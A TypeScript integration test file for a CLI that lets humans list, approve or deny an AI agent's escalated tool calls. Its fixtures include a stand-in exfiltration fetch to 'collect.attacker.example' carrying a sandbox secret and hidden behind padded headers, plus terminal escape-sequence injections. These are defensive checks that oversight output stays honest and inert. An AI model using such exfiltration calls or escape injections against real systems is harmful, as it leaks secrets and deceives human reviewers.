// `ironcurtain escalations`, `approve` and `deny` as real processes against a real escalation-router process and
// nats-server. Needs every service built (`npx tsc -b`). Their output is also fed to a real terminal emulator
// (xterm.js headless): hostile arguments must not act, and padding must never hide the URL.
import { spawn, type ChildProcess } from 'node:child_process';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir, userInfo } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { connectBus, request, requestUntilSettled, serviceInfos, type Bus } from '@ironcurtain/bus';
import { EscalationList, EscalationOpen, type RequestOf } from '@ironcurtain/proto-schemas';
import { eventually, startNats, stopProcess, type NatsServerHandle } from '@ironcurtain/testing';
import { hostileText, hostileTextShown } from './hostile-text.js';
import { cliEnvironment, repositoryRoot, runCli } from './stack-process.js';
import { renderInTerminal } from '@ironcurtain/testing';

let nats: NatsServerHandle;
let home: string;
let client: Bus;
let router: ChildProcess;

beforeAll(async () => {
  nats = await startNats();
  home = await mkdtemp(join(tmpdir(), 'ironcurtain-escalations-'));
  client = await connectBus({ url: nats.url, name: 'escalations-test' });
  router = spawn(process.execPath, [join(repositoryRoot, 'services/escalation-router/dist/index.js')], {
    env: { PATH: process.env['PATH'] ?? '', NATS_URL: nats.url, IRONCURTAIN_HOME: home, LOG_LEVEL: 'warn' },
    stdio: 'ignore',
  });
  await eventually('the router to serve', async () => {
    const infos = await serviceInfos(client, 'escalation-router').catch(() => []);
    return infos.some((info) => info.endpoints.length === 3);
  });
});
afterAll(async () => {
  await stopProcess(router);
  await client.close();
  await nats.dispose();
  await rm(home, { recursive: true, force: true });
});

const cli = (args: readonly string[]) => runCli(args, cliEnvironment(home, { NATS_URL: nats.url }));
// The CLI records the login name of whoever answers.
const me = userInfo().username;

let callCounter = 0;
/** Opens a ticket the way the PDP does and keeps waiting for its answer in the background. */
function escalate(sessionId: string, path: string, changes: Partial<RequestOf<typeof EscalationOpen>> = {}) {
  callCounter += 1;
  const payload: RequestOf<typeof EscalationOpen> = {
    callId: `cli-call-${callCounter}`,
    sessionId,
    serverName: 'filesystem',
    toolName: 'write_file',
    canonicalArguments: { path, content: 'hello\u001b[31m' },
    argsHash: 'c'.repeat(64),
    reason: 'Writing outside the sandbox needs approval',
    rule: 'escalate-writes',
    escalatedRoles: ['write-path'],
    argumentRoles: { path: ['write-path'], content: ['none'] },
    waitSeconds: 1,
    ...changes,
  };
  const answer = requestUntilSettled(client, EscalationOpen, payload, {
    isSettled: (reply) => reply.status !== 'pending',
    attemptTimeoutMs: 3000,
    deadlineMs: 60_000,
  });
  return { payload, answer };
}

async function pendingTicketOf(sessionId: string) {
  return eventually('the pending ticket', async () => {
    const { tickets } = await request(client, EscalationList, { sessionId });
    return tickets[0];
  });
}

describe('ironcurtain escalations', () => {
  it('lists pending tickets with tool, arguments, reason, session and age, terminal escapes neutralized', async () => {
    const { answer } = escalate('sess-list', '/home/me/Documents/a.md');
    const ticket = await pendingTicketOf('sess-list');
    const run = await cli(['escalations', '--session', 'sess-list']);
    expect(run.code).toBe(0);
    expect(run.stdout).toContain(
      `${ticket.id} [${ticket.id.slice(4, 10)}]  filesystem/write_file  session sess-list  waiting `,
    );
    expect(run.stdout).toContain(
      'reason:    Writing outside the sandbox needs approval (rule escalate-writes)',
    );
    expect(run.stdout).toContain(
      '  arguments:\n    path [write-path, escalated]: "/home/me/Documents/a.md"\n' +
        '    content [none]: "hello\\u001b[31m"\n',
    );
    expect(run.stdout).not.toContain('\u001b');
    expect(run.stdout).toMatch(/1 pending ticket\. Answer with `ironcurtain approve ID/);
    const json = await cli(['escalations', '--json', '--session', 'sess-list']);
    expect(JSON.parse(json.stdout)).toMatchObject({ tickets: [{ id: ticket.id, sessionId: 'sess-list' }] });
    await cli(['deny', ticket.id]);
    await answer;
    expect((await cli(['escalations', '--session', 'sess-list'])).stdout).toBe('no pending escalations\n');
  });
});

describe('ironcurtain escalations and approve against padding and hostile arguments', () => {
  const url = 'https://collect.attacker.example/collect?d=sandbox-secret-42';
  const fetchCall = (
    canonicalArguments: Record<string, unknown>,
    reason = 'The site is not on an approved list',
  ) => ({
    serverName: 'fetch',
    toolName: 'http_fetch',
    canonicalArguments,
    reason,
    rule: 'escalate-fetch-other-sites',
    escalatedRoles: ['fetch-url'],
    argumentRoles: { url: ['fetch-url'], headers: ['none'] },
  });

  it('shows the whole URL behind five padded headers, and approve by code says what it approved', async () => {
    const headers = Object.fromEntries([1, 2, 3, 4, 5].map((index) => [`X-Pad-${index}`, 'x'.repeat(900)]));
    const { answer } = escalate('sess-padded', '', fetchCall({ headers, url }));
    const ticket = await pendingTicketOf('sess-padded');
    const run = await cli(['escalations', '--session', 'sess-padded']);
    expect(run.code).toBe(0);
    const lines = run.stdout.split('\n');
    expect(lines[3]).toBe(`    url [fetch-url, escalated]: "${url}"`);
    expect(lines[4]).toMatch(/^ {4}headers \[none\]: \{"X-Pad-1":"x+… \(\d+ more characters\)$/);
    const approved = await cli(['approve', ticket.id.slice(4, 10)]);
    expect(approved.code).toBe(0);
    expect(approved.stdout.split('\n').slice(0, 2)).toEqual([
      `approved ${ticket.id}: fetch.http_fetch`,
      `  url [fetch-url, escalated]: "${url}"`,
    ]);
    expect(await answer).toMatchObject({ status: 'approved', approver: me });
  });

  it('shows OSC 52/8/0, C1 and bidi in arguments and reason inert, in the listing, JSON and approve', async () => {
    const call = fetchCall(
      { headers: { [hostileText]: hostileText }, url: `${url}${hostileText}` },
      hostileText,
    );
    const { answer } = escalate('sess-hostile', '', call);
    const ticket = await pendingTicketOf('sess-hostile');
    const listing = await cli(['escalations', '--session', 'sess-hostile']);
    const json = await cli(['escalations', '--json', '--session', 'sess-hostile']);
    const approved = await cli(['approve', ticket.id]);
    expect(listing.stdout).toContain(`  reason:    ${hostileTextShown} (rule escalate-fetch-other-sites)`);
    expect(listing.stdout).toContain(
      `    url [fetch-url, escalated]: "${url}title\\u001b]0;pwned-title\\u0007 `,
    );
    expect(JSON.parse(json.stdout)).toMatchObject({ tickets: [{ reason: hostileText }] });
    expect(approved.stdout).toContain(`  url [fetch-url, escalated]: "${url}title\\u001b]0;`);
    for (const output of [listing.stdout, json.stdout, approved.stdout]) {
      const screen = await renderInTerminal(output, { cols: 2000 });
      expect(screen.lines).toEqual(output.trimEnd().split('\n'));
      expect(screen.effects).toEqual([]);
      expect(screen.scrollsNormally).toBe(true);
    }
    await answer;
  });
});

describe('ironcurtain approve and deny', () => {
  it('approve settles the ticket from another terminal; a second answer is told who won (exit 1)', async () => {
    const { answer } = escalate('sess-approve', '/home/me/Documents/b.md');
    const ticket = await pendingTicketOf('sess-approve');
    const approved = await cli(['approve', ticket.id]);
    expect(approved.code).toBe(0);
    expect(approved.stdout).toBe(
      `approved ${ticket.id}: filesystem.write_file\n  path [write-path, escalated]: "/home/me/Documents/b.md"\n` +
        '  content [none]: "hello\\u001b[31m"\n',
    );
    expect(await answer).toMatchObject({ status: 'approved', approver: me, channel: 'terminal' });
    const late = await cli(['deny', ticket.id]);
    expect(late.code).toBe(1);
    expect(late.stdout).toBe(`${ticket.id} was already approved by ${me}; your answer was not used\n`);
  });

  it('deny denies', async () => {
    const { answer } = escalate('sess-deny', '/home/me/Documents/c.md');
    const ticket = await pendingTicketOf('sess-deny');
    const denied = await cli(['deny', ticket.id]);
    expect(denied.code).toBe(0);
    expect(denied.stdout).toMatch(new RegExp(`^denied ${ticket.id}: filesystem\\.write_file\\n`));
    expect(await answer).toMatchObject({ status: 'denied', approver: me });
  });

  it('approve --similar allows later calls in the same directory of that session', async () => {
    const first = escalate('sess-similar', '/home/me/Documents/d.md');
    const ticket = await pendingTicketOf('sess-similar');
    const approved = await cli(['approve', ticket.id, '--similar']);
    expect(approved.code).toBe(0);
    expect(approved.stdout).toContain(
      'similar calls in this session are now allowed: filesystem: write-path under /home/me/Documents',
    );
    expect(await first.answer).toMatchObject({ status: 'approved' });
    const second = escalate('sess-similar', '/home/me/Documents/e.md');
    expect(await second.answer).toMatchObject({ status: 'approved', approver: 'whitelist' });
  });

  it('an unknown ticket, or an unconstrained --similar, fails with a message and exit code 1', async () => {
    const unknown = await cli(['approve', 'esc_ffffffffffffffff']);
    expect(unknown.code).toBe(1);
    expect(unknown.stderr).toMatch(/^ironcurtain: no ticket esc_ffffffffffffffff/);
    const { answer } = escalate('sess-root', '/toplevel.md');
    const ticket = await pendingTicketOf('sess-root');
    const refused = await cli(['approve', ticket.id, '--similar']);
    expect(refused.code).toBe(1);
    expect(refused.stderr).toMatch(/cannot allow similar calls .* approve it without --similar/);
    expect(await cli(['approve', ticket.id])).toMatchObject({ code: 0 });
    await answer;
  });

  it('without NATS_URL or a running stack, says how to get one', async () => {
    const run = await runCli(['escalations'], cliEnvironment(home));
    expect(run.code).toBe(1);
    expect(run.stderr).toMatch(/ironcurtain up/);
  });
});
